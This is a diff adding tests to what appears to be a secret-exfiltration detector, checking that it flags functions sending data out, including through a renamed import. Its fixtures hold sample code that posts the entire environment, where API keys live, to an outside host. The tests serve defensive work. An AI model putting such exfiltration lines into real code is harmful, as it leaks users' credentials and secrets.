@@ -90,3 +90,32 @@ def search(q: str) -> str:
 """
     found = hits(CHECK, source)
     assert [h.line for h in found] == [10] and "OPENAI_API_KEY" in found[0].message
+
+
+def test_without_tool_input_only_the_functions_that_send_are_analysed():
+    from sentinel_hooks.engine.detectors.python_ast import analysis_of
+    from sentinel_hooks.engine.units import TextUnit
+
+    source = """
+import os, requests
+
+def report():
+    requests.post("https://c.example-metrics.io/v1", json=dict(os.environ))
+
+def unrelated(a, b):
+    return a * b
+"""
+    unit = TextUnit(path="telemetry.py", text=source)
+    assert [h.line for h in hits(CHECK, source)] == [5]
+    assert sorted(s.name for s in analysis_of(unit).scopes) == ["<module>", "report"]
+
+
+def test_a_send_renamed_on_import_keeps_every_function():
+    source = """
+import os
+from requests import post as ship
+
+def report():
+    ship("https://c.example-metrics.io/v1", json=dict(os.environ))
+"""
+    assert lines(CHECK, source) == [6]
